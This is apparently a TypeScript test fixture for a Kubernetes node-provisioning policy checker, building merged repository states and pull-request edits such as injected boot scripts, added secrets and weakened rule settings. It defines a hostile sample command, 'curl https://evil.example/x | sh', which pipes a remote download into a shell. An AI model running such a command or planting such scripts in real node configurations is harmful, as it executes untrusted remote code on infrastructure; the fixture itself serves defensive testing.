// The repository of the probes: what is merged, and what pull requests write.

import { mkdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import { root } from '../../../fixtures/examples.ts'
import { edit } from '../../../fixtures/lists.ts'
import { Repository, type RepositoryFiles } from '../../../fixtures/repository.ts'

export const read = (name: string): string => readFileSync(join(root, 'examples/quickstart', name), 'utf8')

export const CONFIG = 'nodes/osm-krm.yaml'
export const MACHINES = 'nodes/machines.yaml'
export const OVERLAY = 'nodes/overlay.yaml'
export const TOKENS = 'nodes/tokens.yaml'
export const KUSTOMIZATION = 'nodes/kustomization.yaml'

export const file = (name: string, text: string): string => `        - path: /opt/bin/${name}
          permissions: 755
          content:
            inline:
              encoding: b64
              data: |
${text.replace(/^(?=.)/gm, ' '.repeat(16)).replaceAll('{{', '{{"{{"}}')}
`
export const overlay = (script: string, more = ''): string => `apiVersion: osm-krm.dev/v1alpha1
kind: OperatingSystemProfileOverlay
metadata:
  name: own-ubuntu
  namespace: kube-system
spec:
  extends: osp-ubuntu
  version: v1.0.0
  provisioningConfig:
    files:
      add:
${file('own', `#!/bin/sh\nset -e\n${script}`)}${more}`
export const script = (text: string): RepositoryFiles => ({ [OVERLAY]: overlay(`${text}\n`) })
export const secret = (value: string, name = 'x'): string =>
  `---\napiVersion: v1\nkind: Secret\nmetadata: {name: ${name}, namespace: kube-system}\nstringData: {value: ${JSON.stringify(value)}}\n`

export const [UBUNTU = ''] = read('machine-deployments.yaml').split(/^---\n/m)
export const PROFILE = '  annotations:\n    k8c.io/operating-system-profile: own-ubuntu\n'
/** What is merged. */
export const MERGED = {
  [CONFIG]: read('osm-krm.yaml'),
  [TOKENS]: read('tokens.yaml'),
  [MACHINES]: edit(UBUNTU, '  annotations:\n', PROFILE),
  [OVERLAY]: overlay('echo "node of $(hostname)"\n'),
}
export const POOL = edit(MERGED[MACHINES], '  name: ubuntu-workers', '  name: evil')
export const edited = (name: keyof typeof MERGED, from: string, to: string): RepositoryFiles => ({
  [name]: edit(MERGED[name]!, from, to),
})
export const withSecret = (value: string): RepositoryFiles => ({ [TOKENS]: MERGED[TOKENS] + secret(value) })
export const WEAK = edited(CONFIG, 'OSM0309: "off"', 'OSM0309: "off", OSM0633: "off"')
export const ENCRYPTED = 'ENC[AES256_GCM,data:b25l,iv:YQ==,tag:Yg==,type:str]'
export const LISTED = 'transformers: [osm-krm.yaml]\nresources:\n- machines.yaml\n'
export const kptfile = (mutators: string): string => `pipeline:\n  mutators: [${mutators}]\n`
export const moved = (files: RepositoryFiles, from: string, to: string): RepositoryFiles =>
  Object.fromEntries(
    Object.entries(files).flatMap(([path, text]) =>
      path.includes(from)
        ? [
            [path, undefined],
            [path.replace(from, to), text],
          ]
        : [],
    ),
  )
export function addSubmodule(folder: string): void {
  mkdirSync(join(folder, 'nodes/sub'))
  new Repository(join(folder, 'nodes/sub')).commit({ 'x.yaml': POOL })
}
/** Two clusters, whose functionConfigs have these names. */
export const clusters = (first: string, second: string): RepositoryFiles =>
  Object.fromEntries(
    Object.entries({ one: first, two: second }).flatMap(([folder, name]) => [
      [`clusters/${folder}/machines.yaml`, UBUNTU],
      [`clusters/${folder}/tokens.yaml`, MERGED[TOKENS]],
      [`clusters/${folder}/osm-krm.yaml`, MERGED[CONFIG]!.replace(/^ {2}name: .*/m, `  name: ${name}`)],
    ]),
  )

export const POLICY = ['--policy', join(root, 'examples/policy/policy.yaml')]
export const EVIL = 'curl https://evil.example/x | sh'
export const WARNED = 'stuck new'
